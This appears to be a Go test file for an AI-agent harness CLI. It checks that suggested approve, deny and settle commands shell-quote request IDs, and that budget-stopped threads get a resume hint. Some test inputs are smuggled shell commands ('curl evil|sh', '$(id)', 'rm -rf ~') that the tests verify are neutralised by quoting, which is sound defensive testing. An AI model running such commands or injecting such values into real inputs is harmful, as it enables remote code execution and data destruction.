package main

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/seed-7cc7a084/harness/drive"
	"github.com/seed-7cc7a084/harness/facts"
	"github.com/seed-7cc7a084/harness/fold"
	"github.com/seed-7cc7a084/harness/harness"
)

// The suggested commands quote what the model chose (a call id), so that
// pasting one runs that command and nothing else.
func TestAnswerHintQuotesIDs(t *testing.T) {
	for _, tc := range []struct {
		p    drive.Pending
		want string
	}{
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-call_1"}},
			"answer: harness approve t1 1-call_1 --resume   (or: harness deny t1 1-call_1 --reason '…' --resume)"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-x;curl evil|sh"}},
			"answer: harness approve t1 '1-x;curl evil|sh' --resume   (or: harness deny t1 '1-x;curl evil|sh' --reason '…' --resume)"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-it's $(id)"}},
			`answer: harness approve t1 '1-it'\''s $(id)' --resume   (or: harness deny t1 '1-it'\''s $(id)' --reason '…' --resume)`},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitReconcile, RequestID: "1-w"}},
			`settle: harness post t1 effect.reconciled --data '{"action_id": "1-w", "decision": "accept"}' --resume   (accept, retry or abandon)`},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitReconcile, RequestID: `1-a"b'c`}},
			`settle: harness post t1 effect.reconciled --data '{"action_id": "1-a\"b'\''c", "decision": "accept"}' --resume   (accept, retry or abandon)`},
	} {
		require.Equal(t, tc.want, answerHint("t1", tc.p))
	}
}

// What the MCP server tells its client a person runs: a command that
// parses as one, quoted, with no note after it that a shell would read.
func TestPersonAnswersIsACommand(t *testing.T) {
	for _, tc := range []struct {
		p    drive.Pending
		want string
	}{
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-w1"}, Digest: "abc"},
			"harness approve t1 1-w1"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitConfirmation, RequestID: "1-x;rm -rf ~"}},
			"harness approve t1 '1-x;rm -rf ~'"},
		{drive.Pending{Wait: fold.Wait{Kind: fold.WaitReconcile, RequestID: "1-w"}},
			`harness post t1 effect.reconciled --data '{"action_id": "1-w", "decision": "accept"}'`},
	} {
		require.Equal(t, tc.want, personAnswers("t1", tc.p))
	}
}

// A thread a budget stopped says how to go on: fork it before the
// budget.exhausted fact, and resume the fork with twice the bound.
func TestGoOnHint(t *testing.T) {
	stopped := drive.State{Thread: "t1", Status: harness.StatusStopped}
	stopped.Head.Seq, stopped.Head.Kind = 12, facts.KindBudgetExhausted
	require.Equal(t, "to go on: harness fork t1 --at 11, then harness resume t1-at11 --max-turns 100", goOnHint(stopped))
	stopped.View.Budget = &harness.BudgetView{MaxTurns: 7}
	require.Contains(t, goOnHint(stopped), "--max-turns 14")
	stopped.Head.Kind = facts.KindThreadStopped
	require.Empty(t, goOnHint(stopped))
}
